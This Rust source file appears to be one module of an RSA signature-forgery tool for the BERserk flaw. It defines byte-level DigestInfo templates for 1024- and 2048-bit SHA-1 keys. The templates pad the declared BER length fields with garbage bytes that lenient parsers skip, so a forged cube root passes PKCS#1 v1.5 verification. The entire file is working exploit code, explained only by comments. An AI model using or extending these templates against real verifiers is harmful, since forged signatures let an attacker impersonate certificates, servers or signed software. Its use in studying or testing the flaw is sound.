// DigestInfo templates for BERserk forgeries.
//
// A PKCS#1 v1.5 signature, once cubed, should read
//
//   00 01 FF .. FF 00 || DigestInfo(hash OID, digest)
//
// A lenient BER parser accepts long-form lengths with any number of length
// bytes and only looks at the last few of them. Each template declares a
// length-of-length much larger than needed, so everything between the
// declared header and the "actual" length bytes is garbage that the parser
// skips. Those garbage bytes are where the forged cube is allowed to be
// wrong.

use crate::ForgeError;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum HashKind {
    Sha1,
    /// Recognised so callers get `UnsupportedParameters` rather than a
    /// guess; no SHA-256 template exists.
    Sha256,
}

impl HashKind {
    pub fn digest_len(&self) -> usize {
        match self {
            HashKind::Sha1 => 20,
            HashKind::Sha256 => 32,
        }
    }
}

impl std::fmt::Display for HashKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            HashKind::Sha1 => f.write_str("SHA-1"),
            HashKind::Sha256 => f.write_str("SHA-256"),
        }
    }
}

/// Byte-level shape of the cube of a forged signature.
///
/// `middle_offset` counts bytes from the low end of the cube, so byte `i`
/// of `middle` lands at big-endian index
/// `bit_len / 8 - middle_offset - middle.len() + i`.
#[derive(Debug, PartialEq, Eq)]
pub struct DigestInfoTemplate {
    pub hash: HashKind,
    pub bit_len: usize,
    pub prefix: &'static [u8],
    pub middle: &'static [u8],
    pub middle_offset: usize,
    pub suffix: &'static [u8],
    pub hash_len: usize,
}

impl DigestInfoTemplate {
    pub fn width(&self) -> usize {
        self.bit_len / 8
    }

    /// Number of low-order bytes the suffix and digest occupy.
    pub fn tail_len(&self) -> usize {
        self.suffix.len() + self.hash_len
    }

    pub fn has_middle(&self) -> bool {
        !self.middle.is_empty()
    }

    /// Big-endian index range of the middle bytes within a full-width buffer.
    pub fn middle_range(&self) -> std::ops::Range<usize> {
        let end = self.width() - self.middle_offset;
        end - self.middle.len()..end
    }
}

pub static RSA1024_SHA1: DigestInfoTemplate = DigestInfoTemplate {
    hash: HashKind::Sha1,
    bit_len: 1024,
    prefix: &[
        0x00, 0x01, 0xFF, 0x00, // PKCS#1 padding
        0x30, // SEQUENCE
        0xD9, // long form, 0x59 length bytes
    ],
    // 0x55 bytes of garbage length
    middle: &[],
    middle_offset: 0,
    suffix: &[
        0x00, 0x00, 0x00, 0x21, // last length bytes: 33
        0x30, 0x09, // SEQUENCE, 9
        0x06, 0x05, // OID, 5
        0x2B, 0x0E, 0x03, 0x02, 0x1A, // SHA-1
        0x05, 0x00, // NULL
        0x04, 0x14, // OCTET STRING, 20
    ],
    hash_len: 20,
};

pub static RSA2048_SHA1: DigestInfoTemplate = DigestInfoTemplate {
    hash: HashKind::Sha1,
    bit_len: 2048,
    prefix: &[
        0x00, 0x01, 0x00, // PKCS#1 padding
        0x30, // SEQUENCE
        0xDB, // long form, 0x5B length bytes
    ],
    // 0x57 bytes of garbage length
    middle: &[
        0x00, 0x00, 0x00, 0xA0, // last length bytes: 160
        0x30, // SEQUENCE
        0xFF, // long form, 0x7F length bytes
    ],
    // 0x7B bytes of garbage length, then the suffix and digest
    middle_offset: 0x7B + 15 + 20,
    suffix: &[
        0x00, 0x00, 0x00, 0x09, // last length bytes: 9
        0x06, 0x05, // OID, 5
        0x2B, 0x0E, 0x03, 0x02, 0x1A, // SHA-1
        0x05, 0x00, // NULL
        0x04, 0x14, // OCTET STRING, 20
    ],
    hash_len: 20,
};

static TEMPLATES: [&DigestInfoTemplate; 2] = [&RSA1024_SHA1, &RSA2048_SHA1];

pub fn lookup(hash: HashKind, bit_len: usize) -> Result<&'static DigestInfoTemplate, ForgeError> {
    TEMPLATES
        .iter()
        .copied()
        .find(|t| t.hash == hash && t.bit_len == bit_len)
        .ok_or(ForgeError::UnsupportedParameters { hash, bit_len })
}

pub fn supported() -> impl Iterator<Item = (HashKind, usize)> {
    TEMPLATES.iter().map(|t| (t.hash, t.bit_len))
}
